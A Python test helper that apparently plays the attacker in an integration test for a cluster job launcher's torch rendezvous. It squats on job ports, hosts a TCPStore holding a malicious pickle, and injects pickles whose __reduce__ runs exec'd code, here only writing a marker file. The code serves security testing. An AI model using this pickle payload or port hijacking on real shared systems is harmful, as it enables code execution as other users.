"""bob's side of tests/integration/test_rendezvous_attack.py, run as bob (needs torch).

    hold JOB COUNT   before alice's job starts: host a TCPStore on the port the job id once gave
                     (20000 + JOB % 20000) with a pickle planted under the c10d rendezvous key, and
                     listen on COUNT more random ports of the ones slurmctl picks from; print them as
                     JSON, count every connection made to any of them until stdin closes, print the count
    inject HOST PORT JOB MARKER
                     connect to the store at HOST:PORT and write a pickle under every key torch's
                     dynamic rendezvous reads for run id JOB (plain and under the static prefix JOB/);
                     the pickle, if ever loaded, writes MARKER-uid<uid>-pid<pid>
"""

import base64
import json
import pickle
import resource
import secrets
import selectors
import socket
import sys
from datetime import timedelta

from slurmctl.runtime.rendezvous import candidate_ranges, ephemeral_range


class Payload:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        code = (f"import os;open({self.marker!r}+'-uid%d-pid%d'%(os.getuid(),os.getpid()),'w')"
                ".write('bob code ran\\n')")
        return (exec, (code,))


def blob(marker: str) -> str:
    return base64.b64encode(pickle.dumps(Payload(marker))).decode()


def hold(job: int, count: int) -> None:
    from torch.distributed import TCPStore

    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    old_port = 20000 + job % 20000
    store = TCPStore("0.0.0.0", old_port, is_master=True, wait_for_workers=False, timeout=timedelta(seconds=30))
    store.set(f"torch.rendezvous.{job}", blob(f"/tmp/rdzv-prebind-{job}"))
    ranges = candidate_ranges(ephemeral_range())
    listeners = []
    while len(listeners) < count:
        index = secrets.randbelow(sum(len(r) for r in ranges))
        port = next(r[index - sum(len(q) for q in ranges[:i])] for i, r in enumerate(ranges)
                    if index < sum(len(q) for q in ranges[:i + 1]))
        listener = socket.socket()
        try:
            listener.bind(("0.0.0.0", port))
        except OSError:
            listener.close()
            continue
        listener.listen()
        listener.setblocking(False)
        listeners.append(listener)
    ports = [s.getsockname()[1] for s in listeners]
    print(json.dumps({"store_port": old_port, "store_keys": store.num_keys(), "ports": ports}), flush=True)
    watched = selectors.DefaultSelector()  # epoll: more descriptors than select() takes
    watched.register(sys.stdin, selectors.EVENT_READ)
    for listener in listeners:
        watched.register(listener, selectors.EVENT_READ)
    accepted = 0
    while True:
        ready = [key.fileobj for key, _ in watched.select(timeout=0.2)]
        if sys.stdin in ready:
            break
        for listener in ready:
            try:
                listener.accept()[0].close()
                accepted += 1
            except BlockingIOError:
                pass
    # a client of bob's store would have registered itself there (TCPStore's init counter) or read the key
    print(json.dumps({"accepted": accepted, "store_keys": store.num_keys()}), flush=True)


def inject(host: str, port: int, job: int, marker: str) -> None:
    from torch.distributed import TCPStore

    store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=10))
    keys = [f"torch.rendezvous.{job}", f"{job}/torch.rendezvous.{job}"]
    for key in keys:
        store.set(key, blob(marker))
    print(json.dumps({"set": keys}), flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "hold":
        hold(int(sys.argv[2]), int(sys.argv[3]))
    else:
        inject(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5])
